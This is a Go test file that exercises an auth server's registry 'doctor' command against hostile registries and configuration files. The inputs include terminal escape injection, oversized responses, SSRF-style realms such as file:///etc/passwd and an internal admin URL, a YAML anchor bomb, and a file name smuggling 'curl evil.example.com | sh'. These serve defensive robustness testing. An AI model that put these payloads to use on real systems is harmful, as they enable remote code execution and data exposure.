package doctor_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode"

	"authserver/e2e/harness"
)

// A registry is somebody else's. What it answers is bounded in size and time, and comes to a terminal in no other form
// than as text.
func TestHostileRegistry(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "", harness.Options{})
	challenge := func(realm, service string) http.HandlerFunc {
		return func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm="%s",service="%s"`, realm, service))
			rw.WriteHeader(http.StatusUnauthorized)
		}
	}
	ours := w.auth.URL + "/token"
	for _, c := range []struct {
		name   string
		answer http.HandlerFunc
		check  string // of an error or warning that has to be there
	}{
		{"endless body", func(rw http.ResponseWriter, _ *http.Request) {
			rw.WriteHeader(http.StatusUnauthorized)
			for i := 0; i < 1<<14; i++ {
				if _, err := rw.Write(make([]byte, 1<<16)); err != nil {
					return
				}
			}
		}, "challenge"},
		{"endless redirects", func(rw http.ResponseWriter, r *http.Request) {
			http.Redirect(rw, r, "/v2/"+strings.Repeat("x", 100), http.StatusFound)
		}, "registry"},
		{"gigantic header", func(rw http.ResponseWriter, r *http.Request) {
			rw.Header().Set("WWW-Authenticate", `Bearer realm="`+strings.Repeat("A", 2<<20)+`"`)
			rw.WriteHeader(http.StatusUnauthorized)
		}, "registry"},
		{"large challenge", challenge(ours+"?"+strings.Repeat("A", 20<<10), strings.Repeat("B", 20<<10)), "service"},
		{"many challenges", func(rw http.ResponseWriter, _ *http.Request) {
			for i := range 1000 {
				rw.Header().Add("WWW-Authenticate", fmt.Sprintf(`Odd%d a="b`, i))
			}
			rw.WriteHeader(http.StatusUnauthorized)
		}, "not-token"},
		{"escapes in the realm", challenge("http://localhost:1/\x1b]0;owned\x07\x1b[2J\x1b[31mtoken", "registry.test"), "registry"},
		{"escapes in the service", challenge(ours, "\x1b[8mregistry.test\x08\x08"), "registry"},
		{"escapes of eight bits in the realm", challenge("http://localhost:1/\u009b31m\u009d0;owned\u009c\u202egnp.exe\u2066", "registry.test"), "realm"},
		{"escapes of eight bits in the service", challenge(ours, "\u009b8mregistry\u202egnp.test"), "service"},
		{"no UTF-8", challenge(ours, "\x9b8mregistry\xff\xfe"), "service"},
		{"escapes in the scheme", func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header().Set("WWW-Authenticate", "\x1b[31mBasic\x1b[0m realm=x")
			rw.WriteHeader(http.StatusUnauthorized)
		}, "registry"},
		{"escapes in a redirect", func(rw http.ResponseWriter, _ *http.Request) {
			rw.Header()["Location"] = []string{"https://evil\x1b]8;;http://evil.test\x07.test/v2/"}
			rw.WriteHeader(http.StatusMovedPermanently)
		}, "registry"},
		{"a service of several lines in a fix", challenge(ours, `x\nusers: [{kind: evil}]`), "service"},
		{"file realm", challenge("file:///etc/passwd", "registry.test"), "realm"},
		{"realm that is none", challenge("::::", "registry.test"), "realm"},
		{"realm of a unix socket", challenge("unix:///var/run/docker.sock", "registry.test"), "realm"},
		{"gopher realm", challenge("gopher://localhost:70/", "registry.test"), "realm"},
		{"not HTTP", func(rw http.ResponseWriter, _ *http.Request) {
			c, _, err := rw.(http.Hijacker).Hijack()
			if err == nil {
				c.Write([]byte("SSH-2.0-\x1b[31mOpenSSH\r\n"))
				c.Close()
			}
		}, "registry"},
		{"hangs up", func(rw http.ResponseWriter, _ *http.Request) {
			c, _, err := rw.(http.Hijacker).Hijack()
			if err == nil {
				c.Close()
			}
		}, "registry"},
		{"believes everything", func(rw http.ResponseWriter, r *http.Request) {
			if r.Header.Get("Authorization") == "" {
				challenge(ours, "registry.test")(rw, r)
			}
		}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := &world{T: t, auth: w.auth}
			address := w.listen(c.answer)
			began := time.Now()
			text := w.run("--registry", address)
			if took := time.Since(began); took > 30*time.Second {
				t.Errorf("it took %s", took)
			}
			isText(t, text.stdout+text.stderr)
			r := w.doctor("--registry", address)
			for _, f := range r.Findings {
				isText(t, f.What)
				for _, x := range f.Fixes {
					isText(t, x.Do)
				}
			}
			if c.check == "" {
				r.says(t)
				return
			}
			found := false
			for _, f := range r.worstFindings() {
				found = found || f.Check == c.check
				row("hostile registry: "+c.name, f)
			}
			if !found || r.exit != 1 {
				t.Errorf("exit status %d, and no %s:\n%.2000s", r.exit, c.check, r)
			}
		})
	}
}

// isText wants no control characters but the ends of lines, and no line of gigantic length.
func isText(t *testing.T, text string) {
	t.Helper()
	for _, c := range text {
		if c != '\n' && !unicode.IsPrint(c) {
			t.Errorf("it prints %q in %.300q", c, text)
			return
		}
	}
	for line := range strings.Lines(text) {
		if len(line) > 5000 {
			t.Errorf("a line of %d bytes: %.100q…", len(line), line)
		}
	}
}

// A registry that answers slowly keeps doctor no longer than half a minute in all.
func TestSlowRegistry(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "", harness.Options{})
	slow := func(rw http.ResponseWriter, r *http.Request) {
		if r.Header.Get("Authorization") != "" {
			select {
			case <-time.After(6 * time.Second):
			case <-r.Context().Done():
			}
		}
		rw.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm="%s",service="registry.test"`, w.auth.URL+"/token"))
		rw.WriteHeader(http.StatusUnauthorized)
	}
	began := time.Now()
	r := w.doctor("--registry", w.listen(http.HandlerFunc(slow)))
	if took := time.Since(began); took > 35*time.Second {
		t.Errorf("it took %s", took)
	}
	r.says(t, want{"registry", "error", "answers so slowly", []string{"registry the log of the registry"}})
	row("a registry that takes 6 s to look at a token", r.worstFindings()[0])
}

// What doctor shows a registry opens nothing: not the registry's images, not authserver, and not for longer than it says.
func TestProbesOpenNothing(t *testing.T) {
	t.Parallel()
	for _, version := range everyVersion {
		t.Run(version, func(t *testing.T) {
			w := newWorld(t, version, harness.Options{})
			w.registry.start()
			if err := w.pulls(); err != nil { // there is something to steal
				t.Fatal(err)
			}
			var mu sync.Mutex
			tokens := map[string]bool{}
			eavesdropper := w.listen(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
				if token, ok := strings.CutPrefix(r.Header.Get("Authorization"), "Bearer "); ok {
					mu.Lock()
					tokens[token] = true
					mu.Unlock()
				}
				rw.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm="%s",service="registry.test",error="invalid_token"`, w.auth.URL+"/token"))
				rw.WriteHeader(http.StatusUnauthorized)
			}))
			w.doctor("--registry", eavesdropper)
			if len(tokens) < 10 {
				t.Fatalf("%d tokens were shown", len(tokens))
			}
			for token := range tokens {
				var claims struct {
					Subject string `json:"sub"`
					Access  []any  `json:"access"`
				}
				part, err := base64.RawURLEncoding.DecodeString(strings.Split(token, ".")[1])
				if err != nil || json.Unmarshal(part, &claims) != nil || claims.Subject != "" || len(claims.Access) != 0 {
					t.Errorf("a token of %q with %v", claims.Subject, claims.Access)
				}
				for _, path := range []string{"GET /v2/team/app/tags/list", "GET /v2/team/app/manifests/1", "POST /v2/team/app/blobs/uploads/", "DELETE /v2/team/app/manifests/1", "GET /v2/_catalog"} {
					method, path, _ := strings.Cut(path, " ")
					if got := bearer(t, method, "http://"+w.registry.host+path, token); got != http.StatusUnauthorized {
						t.Errorf("%s %s: %d", method, path, got)
					}
				}
				for _, path := range []string{"/api/v1/me", "/api/v1/users", "/token?service=registry.test&scope=repository:team/app:pull"} {
					if got := bearer(t, "GET", w.auth.URL+path, token); got == http.StatusOK && !strings.HasPrefix(path, "/token") {
						t.Errorf("%s: %d", path, got)
					}
				}
				for _, form := range []url.Values{
					{"grant_type": {"refresh_token"}, "refresh_token": {token}, "service": {"registry.test"}, "client_id": {"x"}},
					{"grant_type": {"password"}, "username": {"admin"}, "password": {token}, "service": {"registry.test"}, "client_id": {"x"}},
				} {
					if a := w.auth.Post(t, form); a.Status == http.StatusOK {
						t.Errorf("a token was given for it: %s", a.Body)
					}
				}
				if len(tokens) > 3 { // a few of each are enough for the slow part
					delete(tokens, token)
				}
			}
		})
	}
}

func bearer(t *testing.T, method, address, token string) int {
	t.Helper()
	request, err := http.NewRequest(method, address, nil)
	if err != nil {
		t.Fatal(err)
	}
	request.Header.Set("Authorization", "Bearer "+token)
	response, err := http.DefaultClient.Do(request)
	if err != nil {
		t.Fatal(err)
	}
	response.Body.Close()
	return response.StatusCode
}

// A foreign name does not make our key sign whatever it likes: the issuer of a probe is never the registry's word, and a
// service that is no name is not tried.
func TestRegistryDoesNotChooseWhatIsSigned(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "", harness.Options{})
	var mu sync.Mutex
	var seen []string
	for _, service := range []string{"https://sts.example.com", "kubernetes", strings.Repeat("x", 5000), "a\\nb", "registry.test"} {
		address := w.listen(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
			if token, ok := strings.CutPrefix(r.Header.Get("Authorization"), "Bearer "); ok {
				part, _ := base64.RawURLEncoding.DecodeString(strings.Split(token, ".")[1])
				mu.Lock()
				seen = append(seen, string(part))
				mu.Unlock()
			}
			rw.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm="https://evil.example.com/token",service="%s",error="invalid_token"`, service))
			rw.WriteHeader(http.StatusUnauthorized)
		}))
		w.doctor("--registry", address)
	}
	for _, payload := range seen {
		var claims struct {
			Iss, Aud string
			Nbf, Exp int64
		}
		if err := json.Unmarshal([]byte(payload), &claims); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(claims.Iss, "sts.example.com") || strings.Contains(claims.Iss, "kubernetes") || strings.Contains(claims.Iss, "evil") || len(payload) > 1000 {
			t.Errorf("signed: %.300s", payload)
		}
		if lasts := claims.Exp - claims.Nbf; lasts > 2*3600+60 || claims.Aud != "registry.test" && lasts > 5*60+60 {
			t.Errorf("valid for %d s: %.300s", lasts, payload)
		}
	}
	if len(seen) < 10 {
		t.Errorf("only %d tokens", len(seen))
	}
}

// A configuration may be somebody else's too.
func TestHostileConfiguration(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "", harness.Options{})
	pipe := filepath.Join(t.TempDir(), "pipe")
	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
		t.Fatal(err)
	}
	stanza := func(bundle string) string {
		return fmt.Sprintf("version: 0.1\nauth:\n  token: {realm: %q, service: registry.test, issuer: authserver, rootcertbundle: %q}\n", w.auth.URL+"/token", bundle)
	}
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c < 'm'; c++ {
		bomb += fmt.Sprintf("%c: &%c [*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c,*%c]\n", c, c, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1, c-1)
	}
	for name, c := range map[string]struct {
		text string
		exit int
		says string
	}{
		"a pipe":                   {stanza(pipe), 0, "is no file"},
		"a device":                 {stanza("/dev/zero"), 0, "is no file"},
		"a folder":                 {stanza("/etc"), 0, "is no file"},
		"somebody's secret":        {stanza(filepath.Join(w.auth.Dir, "users.htpasswd")), 1, "holds no certificate"},
		"our private key":          {stanza(filepath.Join(w.auth.Dir, "data/root.key")), 1, "holds a private key"},
		"a bomb":                   {bomb + stanza(w.auth.Root), 0, "accepts"},
		"an anchor within itself":  {"auth: &a\n  token: *a\n", 1, "names no realm"},
		"a command in a file name": {stanza("/tmp/x; curl evil.example.com | sh"), 0, "cannot be read here"},
		"large":                    {strings.Repeat("# x\n", 1<<19), 1, "larger than"},
		"binary":                   {"\x00\x01\x02", 1, "neither YAML nor JSON"},
		"escapes":                  {stanza("/none") + "      x: \"\x1b[31m\"\n", 1, ""},
	} {
		t.Run(name, func(t *testing.T) {
			w := &world{T: t, auth: w.auth}
			file := filepath.Join(t.TempDir(), "registry.yml")
			w.write(file, c.text)
			began := time.Now()
			o := w.run("--registry-config", file)
			if took := time.Since(began); took > 20*time.Second {
				t.Errorf("it took %s", took)
			}
			if o.exit != c.exit || !strings.Contains(o.stdout+o.stderr, c.says) {
				t.Errorf("exit status %d\n%.2000s%.2000s", o.exit, o.stdout, o.stderr)
			}
			isText(t, o.stdout+o.stderr)
			for _, line := range strings.Split(string(harness.ReadFile(t, filepath.Join(w.auth.Dir, "users.htpasswd"))), "\n") {
				if _, hash, ok := strings.Cut(line, ":"); ok && strings.Contains(o.stdout+o.stderr, hash) {
					t.Error("it prints a hash")
				}
			}
		})
	}
}

// A name that resolves to an address inside is asked without credentials, as a client would; nothing is sent but a GET.
func TestRealmInside(t *testing.T) {
	t.Parallel()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var got []string
	server := &http.Server{Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, r.Method+" "+r.URL.String()+" "+r.Header.Get("Authorization")+r.Header.Get("Cookie"))
	})}
	go server.Serve(listener)
	t.Cleanup(func() { server.Close() })
	w := newWorld(t, "", harness.Options{})
	inside := "http://" + listener.Addr().String() + "/admin/delete?all=1"
	w.doctor("--registry", w.listen(http.HandlerFunc(func(rw http.ResponseWriter, _ *http.Request) {
		rw.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm="%s",service="registry.test"`, inside))
		rw.WriteHeader(http.StatusUnauthorized)
	})))
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 1 || got[0] != "GET /admin/delete?all=1 " {
		t.Errorf("the inside was asked %q", got)
	}
}
